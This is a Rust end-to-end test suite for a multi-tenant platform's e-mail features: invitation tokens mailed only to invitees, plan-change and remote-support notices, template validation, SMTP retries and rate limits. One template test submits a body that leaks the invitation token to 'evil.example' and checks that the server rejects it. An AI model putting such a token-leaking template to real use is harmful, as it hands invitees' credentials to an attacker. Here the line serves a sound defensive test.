//! E-mail through a real SMTP server started by the test: with `[smtp]` configured an
//! invitation's token reaches the invitee's mailbox and nobody else (not the provider that
//! created the customer, not the admin who invited, resent or imported); plan changes and
//! remote-support requests reach the admins who must know; a provider's own templates are
//! checked when saved and used when sent; a relay that refuses gets the e-mail again later.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::time::Duration;

use reqwest::{Method, StatusCode};
use serde_json::json;
use tenantry_e2e::receiver::{Mode, Receiver};
use tenantry_e2e::smtp_sink::{Mail, SmtpSink};
use tenantry_e2e::{TestServer, org_body};

const WAIT: Duration = Duration::from_secs(10);

async fn server_with(sink: &SmtpSink) -> TestServer {
    let url = sink.url();
    TestServer::spawn_with(tenantry_e2e::policies_dir(), move |settings| {
        settings.smtp.url = Some(url.clone());
        settings.smtp.from = "Example Telecom <no-reply@telecom.example>".into();
        settings.smtp.accept_url =
            Some("https://portal.telecom.example/accept?token={token}".into());
        settings.smtp.poll_interval_ms = 50;
        // Webhooks to the test's own receiver, for the disabled-endpoint e-mail.
        settings.webhooks.allow_private_addresses = true;
        settings.webhooks.allow_http = true;
        settings.webhooks.timeout_secs = 1;
        settings.webhooks.poll_interval_ms = 50;
        tenantry_e2e::unthrottled(settings);
    })
    .await
    .unwrap()
}

/// The invitation token in an invitation e-mail's accept link.
fn token_in(mail: &Mail) -> String {
    let body = mail.body();
    let at = body.find("?token=").expect("an accept link") + "?token=".len();
    body[at..]
        .split_whitespace()
        .next()
        .unwrap_or_default()
        .to_owned()
}

/// The one invitation mailed to `to` (waiting for it), accepted: the invitee's API token.
async fn accept_mailed(s: &TestServer, sink: &SmtpSink, to: &str, nth: usize) -> String {
    let mails = sink.wait_for(to, nth, WAIT).await;
    assert_eq!(mails.len(), nth, "e-mail to {to}: {mails:?}");
    s.accept(&token_in(&mails[nth - 1])).await
}

/// A provider created by the operator, its owner signed in through the mailed invitation:
/// (org id, owner token).
async fn mailed_provider(s: &TestServer, sink: &SmtpSink, slug: &str) -> (String, String) {
    let created = s
        .create_org(
            &s.operator.clone(),
            org_body(slug, "service_provider", "customer", true),
        )
        .await;
    assert_eq!(created.status, StatusCode::CREATED, "{:?}", created.body);
    let owner = accept_mailed(s, sink, &format!("owner@{slug}.example"), 1).await;
    (created.id(), owner)
}

/// A customer of the provider `sp_owner` owns, its owner signed in the same way.
async fn mailed_customer(
    s: &TestServer,
    sink: &SmtpSink,
    sp_owner: &str,
    slug: &str,
) -> (String, String) {
    let created = s
        .create_org(sp_owner, org_body(slug, "business_user", "customer", true))
        .await;
    assert_eq!(created.status, StatusCode::CREATED, "{:?}", created.body);
    let owner = accept_mailed(s, sink, &format!("owner@{slug}.example"), 1).await;
    (created.id(), owner)
}

#[tokio::test]
async fn an_invitation_token_reaches_the_invitee_only_never_whoever_invited() {
    let sink = SmtpSink::start().await.unwrap();
    let s = server_with(&sink).await;

    // The operator creates a provider: the owner's invitation is mailed, not answered.
    let sp = s
        .create_org(
            &s.operator.clone(),
            org_body("telco", "service_provider", "customer", true),
        )
        .await;
    assert_eq!(sp.status, StatusCode::CREATED, "{:?}", sp.body);
    assert!(
        sp.body.get("owner_invitation_token").is_none(),
        "{:?}",
        sp.body
    );
    assert_eq!(sp.body["owner_invitation_mailed"], true);
    let sp_owner = accept_mailed(&s, &sink, "owner@telco.example", 1).await;
    let mail = &sink.mails_to("owner@telco.example")[0];
    assert_eq!(mail.header("Subject"), "You are invited to telco Inc");
    assert!(mail.header("From").contains("no-reply@telecom.example"));
    let body = mail.body();
    assert!(body.contains("as owner"), "{body}");
    assert!(body.contains("The invitation expires on"), "{body}");

    // The provider creates a customer with its owner: the provider never holds the owner's
    // credential.
    let acme = s
        .create_org(
            &sp_owner,
            org_body("acme", "business_user", "customer", true),
        )
        .await;
    assert_eq!(acme.status, StatusCode::CREATED, "{:?}", acme.body);
    assert!(acme.body.get("owner_invitation_token").is_none());
    let acme_id = acme.id();
    let acme_owner = accept_mailed(&s, &sink, "owner@acme.example", 1).await;
    let body = sink.mails_to("owner@acme.example")[0].body();
    assert!(body.contains("served by telco Inc"), "{body}");

    // An admin invites, renews and imports: never a token in the answer.
    let invited = s
        .post(
            &format!("/v1/orgs/{acme_id}/members"),
            &acme_owner,
            json!({"name": "Ada", "email": "ada@acme.example", "role": "admin"}),
        )
        .await;
    assert_eq!(invited.status, StatusCode::CREATED, "{:?}", invited.body);
    assert!(invited.body.get("invitation_token").is_none());
    assert_eq!(invited.body["invitation_mailed"], true);
    sink.wait_for("ada@acme.example", 1, WAIT).await;
    let pending = s
        .get(&format!("/v1/orgs/{acme_id}/invitations"), &acme_owner)
        .await;
    let invitation = pending.body["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["email"] == "ada@acme.example")
        .unwrap()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let resent = s
        .post_empty(
            &format!("/v1/orgs/{acme_id}/invitations/{invitation}/resend"),
            &acme_owner,
        )
        .await;
    assert_eq!(resent.status, StatusCode::OK, "{:?}", resent.body);
    assert!(resent.body.get("invitation_token").is_none());
    assert_eq!(resent.body["invitation_mailed"], true);
    // The first token died with the renewal; the second one works.
    let first = token_in(&sink.mails_to("ada@acme.example")[0]);
    let ada = accept_mailed(&s, &sink, "ada@acme.example", 2).await;
    assert!(!ada.is_empty());
    let dead = s
        .call(
            Method::POST,
            "/v1/invitations/accept",
            None,
            Some(json!({"token": first})),
        )
        .await;
    assert!(dead.status.is_client_error(), "{:?}", dead.body);

    let imported = s
        .send(
            s.request(Method::POST, &format!("/v1/orgs/{acme_id}/members/import"))
                .bearer_auth(&acme_owner)
                .header("content-type", "text/csv")
                .body("name,email,role,portal_access,pin\nBob,bob@acme.example,member,true,\n"),
        )
        .await;
    assert_eq!(imported.status, StatusCode::CREATED, "{:?}", imported.body);
    let row = &imported.body["members"][0];
    assert!(row.get("invitation_token").is_none(), "{row:?}");
    assert_eq!(row["invitation_mailed"], true);
    accept_mailed(&s, &sink, "bob@acme.example", 1).await;

    // A member without portal access given it by an edit: the invitation is mailed too.
    let kiosk = s
        .post(
            &format!("/v1/orgs/{acme_id}/members"),
            &acme_owner,
            json!({"name": "Kiosk", "role": "member", "portal_access": false}),
        )
        .await;
    assert_eq!(kiosk.status, StatusCode::CREATED, "{:?}", kiosk.body);
    let edited = s
        .patch(
            &format!(
                "/v1/orgs/{acme_id}/members/{}",
                kiosk.body["user_id"].as_str().unwrap()
            ),
            &acme_owner,
            json!({"email": "kiosk@acme.example", "portal_access": true}),
        )
        .await;
    assert_eq!(edited.status, StatusCode::OK, "{:?}", edited.body);
    assert!(edited.body.get("invitation_token").is_none());
    assert_eq!(edited.body["invitation_mailed"], true);
    accept_mailed(&s, &sink, "kiosk@acme.example", 1).await;

    // Nobody else got any of these e-mails.
    for mail in sink.mails() {
        assert_eq!(mail.to.len(), 1, "{:?}", mail.to);
    }
}

#[tokio::test]
async fn plan_changes_and_remote_support_requests_reach_the_admins_in_the_providers_words() {
    let sink = SmtpSink::start().await.unwrap();
    let s = server_with(&sink).await;
    let (sp_id, sp_owner) = mailed_provider(&s, &sink, "telco").await;
    let (acme_id, acme_owner) = mailed_customer(&s, &sink, &sp_owner, "acme").await;

    // The provider words its plan-change e-mail.
    let template = s
        .put(
            &format!("/v1/orgs/{sp_id}/mail-templates/plan_changed"),
            &sp_owner,
            json!({
                "subject": "Your {{ provider_name }} subscription: {{ new_plan }}",
                "body": "{{ org_name }} now has {{ new_plan }} (was {{ old_plan }}).\n"
            }),
        )
        .await;
    assert_eq!(template.status, StatusCode::OK, "{:?}", template.body);
    assert_eq!(template.body["customized"], true);

    let plan = s
        .post(
            "/v1/plans",
            &sp_owner,
            json!({"name": "Premium", "owner_org_id": sp_id, "limits": {"max_members": 50, "max_teams": 10, "max_active_links": 10, "max_remote_support_minutes": 60}}),
        )
        .await;
    assert_eq!(plan.status, StatusCode::CREATED, "{:?}", plan.body);
    let changed = s
        .put(
            &format!("/v1/orgs/{acme_id}/plan"),
            &sp_owner,
            json!({"plan_id": plan.id()}),
        )
        .await;
    assert_eq!(changed.status, StatusCode::OK, "{:?}", changed.body);
    for to in ["owner@acme.example", "owner@telco.example"] {
        let mails = sink.wait_for(to, 2, WAIT).await;
        let mail = mails.last().unwrap();
        assert_eq!(
            mail.header("Subject"),
            "Your telco Inc subscription: Premium",
            "{to}"
        );
        assert!(mail.body().contains("acme Inc now has Premium (was no)."));
    }

    // A remote-support request waiting for approval reaches the customer's owner.
    let request = s
        .post(
            &format!("/v1/orgs/{acme_id}/remote-support"),
            &sp_owner,
            json!({"reason": "ticket 42: calls drop", "minutes": 30, "scope": "read"}),
        )
        .await;
    assert_eq!(request.status, StatusCode::CREATED, "{:?}", request.body);
    assert_eq!(request.body["status"], "pending");
    let mails = sink.wait_for("owner@acme.example", 3, WAIT).await;
    let mail = mails.last().unwrap();
    assert_eq!(
        mail.header("Subject"),
        "telco Inc asks for remote support access to acme Inc"
    );
    assert!(mail.body().contains("ticket 42: calls drop"));
    assert!(!acme_owner.is_empty());

    // Back to the default: the provider's words are gone.
    let reset = s
        .delete(
            &format!("/v1/orgs/{sp_id}/mail-templates/plan_changed"),
            &sp_owner,
        )
        .await;
    assert_eq!(reset.status, StatusCode::NO_CONTENT);
    let listed = s
        .get(&format!("/v1/orgs/{sp_id}/mail-templates"), &sp_owner)
        .await;
    let kinds: Vec<_> = listed.body["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| {
            (
                t["kind"].as_str().unwrap().to_owned(),
                t["customized"].as_bool().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        kinds,
        [
            ("invitation".to_owned(), false),
            ("plan_changed".to_owned(), false),
            ("remote_support_pending".to_owned(), false),
            ("webhook_disabled".to_owned(), false)
        ]
    );
}

#[tokio::test]
async fn a_template_is_checked_when_saved_and_only_its_provider_writes_it() {
    let sink = SmtpSink::start().await.unwrap();
    let s = server_with(&sink).await;
    let (sp_id, sp_owner) = mailed_provider(&s, &sink, "telco").await;
    let (_, other_owner) = mailed_provider(&s, &sink, "othertel").await;
    let (acme_id, acme_owner) = mailed_customer(&s, &sink, &sp_owner, "acme").await;
    let path = format!("/v1/orgs/{sp_id}/mail-templates/invitation");

    // The token is not a value a template can name: the server adds the link below it.
    let stealing = s
        .put(
            &path,
            &sp_owner,
            json!({"subject": "Welcome", "body": "Hello\n\nhttps://evil.example/?t={{ token }}\n"}),
        )
        .await;
    assert_eq!(stealing.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(stealing.body["errors"][0]["field"], "body");
    let reason = stealing.body["errors"][0]["reason"].as_str().unwrap();
    assert!(reason.starts_with("line 3:"), "{reason}");
    assert!(reason.contains("invitee_name"), "{reason}");

    let broken = s
        .put(
            &path,
            &sp_owner,
            json!({"subject": "{% if org_name %}", "body": "fine"}),
        )
        .await;
    assert_eq!(broken.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(broken.body["errors"][0]["field"], "subject");

    let too_long = s
        .put(
            &path,
            &sp_owner,
            json!({"subject": "s", "body": "x".repeat(16 * 1024 + 1)}),
        )
        .await;
    assert_eq!(too_long.status, StatusCode::UNPROCESSABLE_ENTITY);
    let at_limit = s
        .put(
            &path,
            &sp_owner,
            json!({"subject": "s", "body": "x".repeat(16 * 1024)}),
        )
        .await;
    assert_eq!(at_limit.status, StatusCode::OK, "{:?}", at_limit.body);

    let unknown = s
        .put(
            &format!("/v1/orgs/{sp_id}/mail-templates/newsletter"),
            &sp_owner,
            json!({"subject": "s", "body": "b"}),
        )
        .await;
    assert_eq!(unknown.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        unknown.body["errors"][0]["reason"]
            .as_str()
            .unwrap()
            .contains("plan_changed")
    );

    // A customer writes no templates; another provider cannot see these; a plain member of
    // the provider may not change them.
    let customer = s
        .put(
            &format!("/v1/orgs/{acme_id}/mail-templates/invitation"),
            &acme_owner,
            json!({"subject": "s", "body": "b"}),
        )
        .await;
    assert_eq!(customer.status, StatusCode::CONFLICT, "{:?}", customer.body);
    let foreign = s
        .get(&format!("/v1/orgs/{sp_id}/mail-templates"), &other_owner)
        .await;
    assert_eq!(foreign.status, StatusCode::NOT_FOUND, "{:?}", foreign.body);
    let invited = s
        .post(
            &format!("/v1/orgs/{sp_id}/members"),
            &sp_owner,
            json!({"name": "Sam", "email": "sam@telco.example", "role": "member"}),
        )
        .await;
    assert_eq!(invited.status, StatusCode::CREATED);
    let sam = accept_mailed(&s, &sink, "sam@telco.example", 1).await;
    let member = s
        .put(&path, &sam, json!({"subject": "s", "body": "b"}))
        .await;
    assert_eq!(member.status, StatusCode::FORBIDDEN, "{:?}", member.body);
}

#[tokio::test]
async fn a_relay_that_refuses_gets_the_email_again_later() {
    let sink = SmtpSink::start().await.unwrap();
    let s = server_with(&sink).await;
    sink.refuse_next(1);
    let sp = s
        .create_org(
            &s.operator.clone(),
            org_body("telco", "service_provider", "customer", true),
        )
        .await;
    assert_eq!(sp.status, StatusCode::CREATED);
    for _ in 0..200 {
        if sink.refused() == 1 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    assert_eq!(sink.refused(), 1);
    // Not before its retry is due (5 s after the failure), then at once.
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(sink.mails_to("owner@telco.example").is_empty());
    s.clock().advance(Duration::from_secs(6));
    let owner = accept_mailed(&s, &sink, "owner@telco.example", 1).await;
    assert!(!owner.is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_endpoint_disabled_after_its_retries_is_mailed_to_the_owner() {
    let sink = SmtpSink::start().await.unwrap();
    let s = server_with(&sink).await;
    let (_, sp_owner) = mailed_provider(&s, &sink, "telco").await;
    let (acme_id, owner) = mailed_customer(&s, &sink, &sp_owner, "acme").await;
    let receiver = Receiver::start().await.unwrap();
    receiver.set_mode(Mode::Answer(503));
    let hook = s
        .post(
            &format!("/v1/orgs/{acme_id}/webhooks"),
            &owner,
            json!({"url": format!("{}?key=secret", receiver.url)}),
        )
        .await;
    assert_eq!(hook.status, StatusCode::CREATED, "{:?}", hook.body);
    let hook_id = hook.id();
    let path = format!("/v1/orgs/{acme_id}/webhooks/{hook_id}");
    // Eight attempts over about 27.6 hours: the clock is moved past each wait.
    for attempt in 1..=8_u64 {
        for _ in 0..200 {
            let state = s.get(&path, &owner).await.body;
            if state["failed_attempts"] == attempt || state["status"] == "disabled" {
                break;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        s.clock().advance(Duration::from_secs(10 * 3600 + 1));
    }
    let mails = sink.wait_for("owner@acme.example", 2, WAIT).await;
    let mail = mails.last().unwrap();
    assert_eq!(
        mail.header("Subject"),
        "A webhook endpoint of acme Inc was disabled"
    );
    let body = mail.body();
    assert!(body.contains("answered 503"), "{body}");
    assert!(
        body.contains(&format!("/webhooks/{hook_id}/enable")),
        "{body}"
    );
    // The endpoint's URL is shown without its query, which may hold the receiver's secret.
    assert!(!body.contains("key=secret"), "{body}");
}

#[tokio::test]
async fn one_tenants_thousand_invitations_do_not_hold_up_anothers() {
    let sink = SmtpSink::start().await.unwrap();
    let s = server_with(&sink).await;
    let (_, sp_owner) = mailed_provider(&s, &sink, "telco").await;
    let (big, big_owner) = mailed_customer(&s, &sink, &sp_owner, "big").await;
    let (small, small_owner) = mailed_customer(&s, &sink, &sp_owner, "small").await;
    let mut csv = String::from("name,email,role,portal_access,pin\n");
    for i in 0..60 {
        csv.push_str(&format!("User {i},user{i}@big.example,member,true,\n"));
    }
    let imported = s
        .send(
            s.request(Method::POST, &format!("/v1/orgs/{big}/members/import"))
                .bearer_auth(&big_owner)
                .header("content-type", "text/csv")
                .body(csv),
        )
        .await;
    assert_eq!(imported.status, StatusCode::CREATED, "{:?}", imported.body);
    let invited = s
        .post(
            &format!("/v1/orgs/{small}/members"),
            &small_owner,
            json!({"name": "Ada", "email": "ada@small.example", "role": "member"}),
        )
        .await;
    assert_eq!(invited.status, StatusCode::CREATED);
    sink.wait_for("ada@small.example", 1, WAIT).await;
    sink.wait_for("user59@big.example", 1, WAIT).await;
    // At most ten e-mails of one organization per look: the other's goes out in the next
    // look, not after all sixty.
    let order: Vec<String> = sink
        .mails()
        .into_iter()
        .filter(|m| m.to[0].ends_with("big.example") || m.to[0] == "ada@small.example")
        .filter(|m| !m.to[0].starts_with("owner@"))
        .map(|m| m.to[0].clone())
        .collect();
    let ada = order.iter().position(|t| t == "ada@small.example").unwrap();
    assert!(
        ada <= 30,
        "sent after {ada} of the other tenant's: {order:?}"
    );
}

#[tokio::test]
async fn one_address_gets_at_most_five_invitations_a_day_from_one_organization() {
    let sink = SmtpSink::start().await.unwrap();
    let s = server_with(&sink).await;
    let (_, sp_owner) = mailed_provider(&s, &sink, "telco").await;
    let (acme, acme_owner) = mailed_customer(&s, &sink, &sp_owner, "acme").await;
    let (globex, globex_owner) = mailed_customer(&s, &sink, &sp_owner, "globex").await;
    let victim = "Someone@Elsewhere.example";
    let invited = s
        .post(
            &format!("/v1/orgs/{acme}/members"),
            &acme_owner,
            json!({"name": "Someone", "email": victim, "role": "member"}),
        )
        .await;
    assert_eq!(invited.status, StatusCode::CREATED, "{:?}", invited.body);
    let invitations = s
        .get(&format!("/v1/orgs/{acme}/invitations"), &acme_owner)
        .await;
    // A resend renews the invitation under a new id.
    let mut invitation = invitations.body["items"][0]["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let resend = |id: &str| format!("/v1/orgs/{acme}/invitations/{id}/resend");
    for _ in 0..4 {
        let resent = s.post_empty(&resend(&invitation), &acme_owner).await;
        assert_eq!(resent.status, StatusCode::OK, "{:?}", resent.body);
        invitation = resent.id();
    }
    // The sixth e-mail to that address within a day is refused, with when to try again, and
    // the refused resend changes nothing: the invitation keeps its id.
    let refused = s.post_empty(&resend(&invitation), &acme_owner).await;
    assert_eq!(
        refused.status,
        StatusCode::TOO_MANY_REQUESTS,
        "{:?}",
        refused.body
    );
    assert!(
        refused.detail().contains("to this address"),
        "{}",
        refused.detail()
    );
    let retry_after: u64 = refused.headers["retry-after"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!((86_000..=86_400).contains(&retry_after), "{retry_after}");
    let mailed = sink.wait_for("someone@elsewhere.example", 5, WAIT).await;
    assert_eq!(mailed.len(), 5);
    // Another organization's budget for the address is its own.
    let elsewhere = s
        .post(
            &format!("/v1/orgs/{globex}/members"),
            &globex_owner,
            json!({"name": "Someone", "email": "someone@elsewhere.example", "role": "member"}),
        )
        .await;
    assert_eq!(
        elsewhere.status,
        StatusCode::CREATED,
        "{:?}",
        elsewhere.body
    );
    // A day later the first organization may write again.
    s.clock().advance(Duration::from_secs(24 * 3600));
    let again = s.post_empty(&resend(&invitation), &acme_owner).await;
    assert_eq!(again.status, StatusCode::OK, "{:?}", again.body);
    let mailed = sink.wait_for("someone@elsewhere.example", 7, WAIT).await;
    assert_eq!(mailed.len(), 7);
    let token = token_in(&mailed[6]);
    assert!(!s.accept(&token).await.is_empty());
}
